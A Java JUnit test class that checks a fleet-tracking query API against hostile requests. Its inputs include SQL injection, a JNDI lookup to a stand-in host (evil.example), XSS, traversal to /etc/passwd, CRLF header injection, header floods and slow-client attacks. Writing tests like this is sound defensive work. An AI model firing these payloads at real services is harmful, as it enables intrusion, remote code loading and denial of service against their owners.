package io.fleetstream.topology.query;

import io.fleetstream.http.HostileClient;
import io.fleetstream.http.HttpEdge;
import io.fleetstream.topology.testing.TestEvents;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import java.util.concurrent.CompletableFuture;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;

import static io.fleetstream.topology.testing.TestEvents.T0;
import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

/**
 * Hostile input on every route of the query API ({@link QueryServer#routes()}), over raw sockets: injection attempts in
 * every query parameter and path id are 400 naming it and repeat at most the start of the value, and nothing is
 * answered in any other shape than the API's JSON error.
 */
class HostileInputTest {

    /** An error message with its fixed words and one cut value: far less than the value itself. */
    private static final int MAX_ERROR_CHARS = 400;
    private static final List<String> INJECTIONS = List.of("'; DROP TABLE devices;--", "${jndi:ldap://evil.example/a}",
            "<script>alert(1)</script>", "../../etc/passwd", "1 OR 1=1", "%s%s%n", "9".repeat(5000));

    @TempDir
    static Path stateDir;
    static PartitionedFleet fleet;
    static TestInstance instance;
    static HostileClient client;

    @BeforeAll
    static void start() {
        fleet = new PartitionedFleet(2, stateDir, T0.plus(Duration.ofDays(1)));
        fleet.send(new TestEvents(6001, 88).updateLocation(T0.plusSeconds(60)));
        instance = TestInstance.alone(fleet);
        client = new HostileClient(instance.port());
    }

    @AfterAll
    static void stop() {
        instance.close();
        fleet.close();
    }

    @Test
    void injectionAttemptsInEveryQueryParameterOfEveryRouteAre400NamingIt() {
        for (QueryServer.Route route : instance.server().routes()) {
            String path = concrete(route.path());
            assertThat(client.get(path).status()).as(path).isIn(200, 404);
            List<String> parameters = route.queryParameters().isEmpty() ? List.of("x") : List.copyOf(route.queryParameters());
            for (String parameter : parameters) {
                for (String injection : INJECTIONS) {
                    HostileClient.Answer answer = client.get(path + "?" + parameter + "=" + encoded(injection));
                    assertJsonError(answer, 400, parameter + "=" + injection);
                    assertThat(answer.json().get("parameter").asText()).as(path + " " + parameter).isEqualTo(parameter);
                }
                assertJsonError(client.get(path + "?" + parameter + "=%ff%fe"), 400, "is not UTF-8");
                assertJsonError(client.get(path + "?" + parameter + "=a%0d%0aSet-Cookie:%20x"), 400, "control character");
                assertJsonError(client.get(path + "?" + parameter + "=%zz"), 400, "not followed by two hex digits");
            }
            assertJsonError(client.get(path + "?x=" + "a".repeat(1_000_000)), 414, "URI Too Long");
            assertJsonError(client.get(path + "%00"), 400, "Bad Request");
            assertJsonError(client.send("POST", path, List.of("Content-Type: application/json"), "{}".getBytes(StandardCharsets.UTF_8)),
                    405, "Method Not Allowed");
        }
    }

    @Test
    void injectionAttemptsInEveryPathIdAre400NamingIt() {
        for (String template : List.of("/v1/devices/%s", "/v1/devices/%s/quota", "/v1/devices/%s/events",
                "/v1/organisations/%s/quota-management", "/v1/organisations/%s/events")) {
            String parameter = template.contains("devices") ? "endpoint_id" : "organisation_id";
            for (String injection : List.of("1'; DROP TABLE devices;--", "${jndi:ldap://evil.example/a}", "<script>", "-1",
                    "..%2f..%2fetc%2fpasswd", "%2e%2e", "9".repeat(5000), "%c3%a9")) {
                String path = String.format(template, injection.startsWith("..") || injection.startsWith("%") ? injection : encoded(injection));
                HostileClient.Answer answer = client.get(path);
                assertJsonError(answer, 400, path);
                assertThat(answer.json().get("parameter").asText()).as(path).isEqualTo(parameter);
            }
            assertJsonError(client.get(String.format(template, "1".repeat(100_000))), 414, "URI Too Long");
            assertJsonError(client.get(String.format(template, "%ff%fe")), 400, "the path is not UTF-8");
            assertJsonError(client.get(String.format(template, "1%00")), 400, "Bad Request");
        }
    }

    @Test
    void traversalAndUnknownRoutesAre404OrRefusedNeverAFile() {
        for (String path : List.of("/v1/devices/../../etc/passwd", "/v1/devices/%2e%2e/%2e%2e/etc/passwd", "/../../../etc/passwd",
                "/openapi.yaml/../../../etc/passwd", "/v1/devices/6001/events/../../../../etc/passwd", "/etc/passwd", "/WEB-INF/web.xml")) {
            HostileClient.Answer answer = client.get(path);
            assertThat(answer.status()).as(path).isBetween(400, 404);
            assertJsonShape(answer);
            assertThat(answer.body()).doesNotContain("root:");
        }
        assertJsonError(client.get("/v1/" + "nope/".repeat(1000)), 404, "characters)");
        assertJsonError(client.raw(("GET /v1/devices HTTP/1.1\r\nHost: x\r\n" + "X-Flood: y\r\n".repeat(5000) + "\r\n")
                .getBytes(StandardCharsets.ISO_8859_1)), 431, "header flood");
        assertThat(client.get("/v1/" + "nope/".repeat(1000)).body()).hasSizeLessThan(MAX_ERROR_CHARS);
    }

    @Test
    void slowClientsAreCutOffWhileOthersAreServedAndNothingLeaks() {
        ExecutorService clients = Executors.newCachedThreadPool();
        try {
            int connections = client.openConnections();
            CompletableFuture<HostileClient.Trickled> slowHeaders = CompletableFuture.supplyAsync(() -> client.trickle(
                    "GET /v1/devices HTTP/1.1\r\nHost: x\r\nX-Slow: ", "a", Duration.ofMillis(500), Duration.ofSeconds(30)), clients);
            CompletableFuture<HostileClient.Trickled> slowBody = CompletableFuture.supplyAsync(() -> client.trickle(
                    "GET /v1/devices/6001 HTTP/1.1\r\nHost: x\r\nContent-Length: 100000\r\n\r\n{", " ",
                    Duration.ofMillis(500), Duration.ofSeconds(30)), clients);
            await().atMost(Duration.ofSeconds(2)).until(() -> client.openConnections() > connections);
            assertThat(client.get("/v1/devices/6001").status()).isEqualTo(200);

            // the query API reads no body: it answers, and closes rather than wait for the rest
            HostileClient.Trickled body = slowBody.join();
            assertThat(body.answer().status()).isEqualTo(200);
            assertThat(body.closedByServer()).isTrue();
            assertThat(body.after()).isLessThan(Duration.ofSeconds(5));
            HostileClient.Trickled headers = slowHeaders.join();
            assertThat(headers.closedByServer()).isTrue();
            assertThat(headers.after()).isBetween(HttpEdge.HEADER_TIMEOUT, HttpEdge.HEADER_TIMEOUT.plusSeconds(4));

            await().atMost(Duration.ofSeconds(3)).until(() -> client.openConnections() == connections);
            assertThat(HostileClient.busyRequestThreads()).isZero();
        } finally {
            clients.shutdownNow();
        }
    }

    private static String concrete(String routePath) {
        return routePath.replace("{endpoint_id}", "6001").replace("{organisation_id}", "88");
    }

    private static String encoded(String value) {
        return java.net.URLEncoder.encode(value, StandardCharsets.UTF_8);
    }

    private static void assertJsonError(HostileClient.Answer answer, int status, String what) {
        assertThat(answer.status()).as(what + ": " + answer.body()).isEqualTo(status);
        assertJsonShape(answer);
        assertThat(answer.body()).as(what).hasSizeLessThan(MAX_ERROR_CHARS);
    }

    private static void assertJsonShape(HostileClient.Answer answer) {
        assertThat(answer.contentType()).as(answer.headers()).startsWith("application/json");
        assertThat(answer.json().get("status").asInt()).isEqualTo(answer.status());
        assertThat(answer.json().get("error").asText()).isNotBlank();
    }
}
